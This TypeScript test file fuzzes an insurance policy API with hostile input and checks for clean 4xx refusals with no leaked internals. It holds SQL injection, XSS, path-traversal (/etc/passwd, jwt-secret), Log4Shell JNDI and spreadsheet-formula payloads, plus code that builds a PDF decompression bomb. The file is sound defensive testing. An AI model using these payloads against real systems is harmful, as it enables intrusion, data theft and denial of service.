/**
 * Hostile input: malformed JSON, wrong types, huge and odd strings, injection strings, bad
 * multipart bodies, path traversal, fake PDFs and a PDF bomb. The server must answer with a clear
 * 4xx (never a 500, a stack trace or SQL), stay up, and store nothing from a refused request.
 */
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { declarations } from '../../resources/registry';
import { ApiClient } from '../support/apiClient';
import { testDatabases } from '../support/databases';
import { samplePolicy } from '../support/policies';
import { serveSignedIn } from '../support/signedInServer';
import { settledExtraction, uploadForm } from '../support/uploads';

const HOSTILE_STRINGS = [
  "' OR 1=1 --",
  '"; DROP TABLE motor_policies; --',
  "1; select * from users where '1'='1",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '\u0000\u0001\u001f',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 नमस्ते 😀 \u202e',
  'x'.repeat(200_000),
  '${jndi:ldap://example.invalid/a}',
  '=HYPERLINK("http://example.invalid")',
  '{"$gt": ""}',
  '__proto__',
];

const hostileValue = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom(1e308, -1, Number.MAX_SAFE_INTEGER + 2),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.object({ maxDepth: 2 }),
);

/** A request body: declared field names (and others, __proto__ among them) with hostile values. */
const hostileBody = (fieldNames: string[]) =>
  fc.dictionary(fc.oneof(fc.constantFrom(...fieldNames, '__proto__', 'constructor', 'id', '_id', 'createdAt'), fc.string({ maxLength: 20 })), hostileValue, { maxKeys: 12 });

/** Every list endpoint of a declared resource (the audit log is filtered by from/to). */
/** Each list endpoint asked for `param=value` in its own dialect (a filter in ra-data-simple-rest's, README). */
const listQueries = (param: string, value: string) =>
  Object.values(declarations)
    .filter((declaration) => declaration.endpoint !== '/audit-log')
    .map(({ endpoint, declaredOnly }) =>
      declaredOnly ? `${endpoint}?filter=${encodeURIComponent(JSON.stringify({ [param]: value }))}` : `${endpoint}?${param}=${encodeURIComponent(value)}`,
    );

const LEAKS = /\bat \/|node_modules|SQLITE|sqlite3|syntax error|relation "|violates|stack/i;

function expectClearRefusal(response: { status: number; body: any }) {
  expect(response.status, JSON.stringify(response.body).slice(0, 300)).toBeLessThan(500);
  if (response.status >= 400) {
    const message = response.body?.message;
    expect(typeof message === 'string' || Array.isArray(message)).toBe(true);
    expect(JSON.stringify(message)).not.toMatch(LEAKS);
  }
}

const RUNS = 40;
const CREATABLE = Object.values(declarations).filter((declaration) => (declaration.operations as readonly string[]).includes('create'));

describe.each(testDatabases())('hostile input on $database', (target) => {
  const context = serveSignedIn(target, 'admin@hostile.in');
  let api: ApiClient;
  let raw: (path: string, init: RequestInit) => Promise<{ status: number; body: any }>;
  beforeAll(() => {
    api = context.api;
    raw = async (path, init) => {
      const response = await fetch(`${context.server.url}/api${path}`, { ...init, headers: { Authorization: `Bearer ${api.token}`, ...init.headers } });
      const text = await response.text();
      let body: unknown = text;
      try {
        body = JSON.parse(text);
      } catch {
        // not JSON
      }
      return { status: response.status, body };
    };
  });

  const countOf = async (endpoint: string) => {
    const { body } = await api.get(`${endpoint}?page=1&limit=1`);
    return Number(body?.meta?.total ?? (Array.isArray(body) ? body.length : 0));
  };

  it.each(CREATABLE.map((declaration) => [declaration.name, declaration] as const))('refuses hostile %s bodies clearly and stores only what it accepted', async (_, declaration) => {
    const before = await countOf(declaration.endpoint);
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(hostileBody(Object.keys(declaration.fields)), async (body) => {
        const response = await api.post(declaration.endpoint, body);
        expectClearRefusal(response);
        if (response.status === 201) accepted++;
      }),
      { numRuns: RUNS },
    );
    expect(await countOf(declaration.endpoint)).toBe(before + accepted);
  });

  it('refuses hostile updates, bulk changes and list queries clearly', async () => {
    const policy = (await api.post('/motor-policy', samplePolicy({ policy_number: 'HOSTILE-1' }))).body;
    const fields = Object.keys(declarations.motorPolicies.fields);
    const stored = async () => (await api.get(`/motor-policy/${policy._id}`)).body;
    /** Sends a write; a refused one must leave the policy exactly as it was. */
    const refusedLeavesPolicyAlone = async (send: () => Promise<{ status: number; body: any }>) => {
      const before = await stored();
      const response = await send();
      expectClearRefusal(response);
      if (response.status >= 400) expect(await stored()).toEqual(before);
    };
    await fc.assert(
      fc.asyncProperty(hostileBody(fields), async (body) => {
        await refusedLeavesPolicyAlone(() => api.patch(`/motor-policy/${policy._id}`, body));
        await refusedLeavesPolicyAlone(() => api.post('/motor-policy/bulk-update', { ids: [policy._id], data: body }));
        await refusedLeavesPolicyAlone(() => api.post('/motor-policy/bulk-update', body));
        await refusedLeavesPolicyAlone(() => api.post('/motor-policy/bulk-delete', { ids: body }));
      }),
      { numRuns: RUNS },
    );
    // A hostile body may be a valid edit (any text is a policy number); whatever was accepted stays readable.
    const afterWrites = await stored();
    await fc.assert(
      fc.asyncProperty(fc.dictionary(fc.constantFrom('page', 'limit', 'sort', 'order', 'search', 'business_type', 'start_date_gte', 'from', 'to', 'status', 'recordId', 'accountEmail', 'resource', 'action'), fc.constantFrom(...HOSTILE_STRINGS.map((text) => text.slice(0, 2000)), '-1', '0', '1e9', 'NaN', '')), async (query) => {
        const search = new URLSearchParams(query as Record<string, string>);
        expectClearRefusal(await api.get(`/motor-policy?${search}`));
        expectClearRefusal(await api.get(`/pdf-extraction/get-extraction-outputs?${search}`));
        expectClearRefusal(await api.get(`/dashboard/overview?${search}`));
        expectClearRefusal(await api.get(`/audit-log?${search}`));
      }),
      { numRuns: RUNS },
    );
    // Reads and list queries changed nothing.
    expect(await stored()).toEqual(afterWrites);
  });

  it('refuses dates out of range (year 0, beyond 2200) in list, CSV, audit and dashboard queries and in If-Match with a 400', async () => {
    const policy = (await api.post('/motor-policy', samplePolicy({ policy_number: 'HOSTILE-DATES' }))).body;
    for (const date of ['0000-01-01', '0001-01-01', '1899-12-31', '9999-12-31', '0000-01-01T00:00:00Z', '+275760-09-13']) {
      const queries = [
        ...listQueries('createdAt_gte', date),
        `/motor-policy/download-csv?createdAt_lte=${encodeURIComponent(date)}`,
        `/motor-policy?start_date_gte=${encodeURIComponent(date)}`,
        `/audit-log?from=${encodeURIComponent(date)}`,
        `/dashboard/overview?to=${encodeURIComponent(date)}`,
      ];
      for (const path of queries) {
        const response = await raw(path, {});
        expect(response.status, `${path} → ${JSON.stringify(response.body).slice(0, 200)}`).toBe(400);
        expect(JSON.stringify(response.body)).toMatch(/date|Date/);
      }
      const edit = await raw(`/motor-policy/${policy._id}`, { method: 'PATCH', headers: { 'Content-Type': 'application/json', 'If-Match': `"${date}"` }, body: JSON.stringify({ broker_name: 'Changed' }) });
      expect(edit.status).toBe(400);
    }
    expect((await api.get(`/motor-policy/${policy._id}`)).body.broker_name).toBe(policy.broker_name);
  });

  it('refuses text holding a lone UTF-16 surrogate with a 400 and stores nothing, but keeps emoji and Hindi', async () => {
    const before = await countOf('/company');
    for (const name of ['Acme \\ud800 Brokers', 'Acme Brokers \\udfff']) {
      const body = `{"name":"${name}","address":"12 MG Road","city":"Pune","state":"Maharashtra","email":"lone@acme.in","mobile":"9876543210","pincode":"411001","partnerType":"Broker"}`;
      const response = await raw('/company', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body });
      expect(response.status, name).toBe(400);
      expect(response.body.message).toBe('The request holds text that is not valid Unicode (a lone UTF-16 surrogate).');
    }
    expect(await countOf('/company')).toBe(before);
    const whole = await api.post('/company', { name: 'नमस्ते Brokers 😀', address: '12 MG Road', city: 'Pune', state: 'Maharashtra', email: 'whole@acme.in', mobile: '9876543211', pincode: '411001', partnerType: 'Broker' });
    expect(whole.status).toBe(201);
    expect(whole.body.name).toBe('नमस्ते Brokers 😀');
  });

  it('answers malformed JSON, wrong content types and oversized bodies with 4xx', async () => {
    for (const text of ['{', '{"a":', 'null', '[]', '"text"', '{"a":1}}', '\u0000']) {
      const response = await raw('/motor-policy', { method: 'POST', body: text, headers: { 'Content-Type': 'application/json' } });
      expect(response.status, text).toBeGreaterThanOrEqual(400);
      expect(response.status, text).toBeLessThan(500);
    }
    expectClearRefusal(await raw('/motor-policy', { method: 'POST', body: 'a=1', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } }));
    const huge = await raw('/motor-policy', { method: 'POST', body: JSON.stringify({ customer_name: 'x'.repeat(3 * 1024 * 1024) }), headers: { 'Content-Type': 'application/json' } });
    expect(huge.status).toBe(413);
  });

  it('refuses broken multipart bodies, fake PDFs and traversal in file names and ids', async () => {
    for (const endpoint of ['/pdf-extraction/extract-fields-queue', '/setup-configuration', '/company']) {
      const broken = await raw(endpoint, { method: 'POST', body: '--x\r\nContent-Disposition: form-data; name="pdf"; filename="a.pdf"\r\n\r\n%PDF-', headers: { 'Content-Type': 'multipart/form-data; boundary=x' } });
      expectClearRefusal(broken);
      expect(broken.status, endpoint).toBeGreaterThanOrEqual(400);
      const noBoundary = await raw(endpoint, { method: 'POST', body: 'garbage', headers: { 'Content-Type': 'multipart/form-data' } });
      expectClearRefusal(noBoundary);
      expect(noBoundary.status, endpoint).toBeGreaterThanOrEqual(400);
    }

    const form = uploadForm(Buffer.from('MZ\u0090\u0000 not a pdf at all'), '../../../evil.pdf');
    const fake = await api.post('/pdf-extraction/extract-fields-queue', form);
    expect(fake.status).toBe(400);
    expect(fake.body.message).toBe('The file must be a PDF, JPG or PNG.');

    for (const path of [
      `/motor-policy/${encodeURIComponent('../../etc/passwd')}`,
      '/motor-policy/..%2F..%2Fjwt-secret',
      '/pdf-extraction/outputs/..%2F..%2Fjwt-secret/pdf',
      '/policy-configurations/%2e%2e%2f%2e%2e%2fpersonal-data-key/pdf',
      '/files/images/..%2F..%2Fjwt-secret',
      '/files/policies/anything.pdf',
      '/motor-policy/%00',
      '/audit-log?recordId=%00&accountEmail=%00',
    ]) {
      const response = await raw(path, { method: 'GET' });
      expect(response.status, path).toBeGreaterThanOrEqual(400);
      expect(response.status, path).toBeLessThan(500);
      expect(JSON.stringify(response.body)).not.toMatch(/[A-Za-z0-9+/=_-]{40,}/);
    }
    // An id is only ever a value: SQL in it finds nothing.
    const injected = await api.get(`/audit-log/motorPolicies/${encodeURIComponent("' or 1=1 --")}`);
    expect(injected).toMatchObject({ status: 200, body: { data: [], meta: { total: 0 } } });
  });

  it('keeps working after a PDF bomb: the document settles on its own and the API answers', async () => {
    // A 40 MB page content stream of zeros, deflated to a few kilobytes.
    const stream = deflateSync(Buffer.alloc(40 * 1024 * 1024));
    const header = Buffer.from(
      `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n` +
        `3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj\n4 0 obj << /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`,
    );
    const pdf = Buffer.concat([header, stream, Buffer.from('\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')]);
    const form = uploadForm(pdf, 'bomb.pdf');
    const uploaded = await api.post('/pdf-extraction/extract-fields-queue', form);
    expect(uploaded.status).toBe(201);
    const { status } = await settledExtraction(api, uploaded.body.data._id, 60_000);
    expect(['Success', 'failed']).toContain(status);
    expect((await api.get('/motor-policy?page=1&limit=1')).status).toBe(200);
  });
});
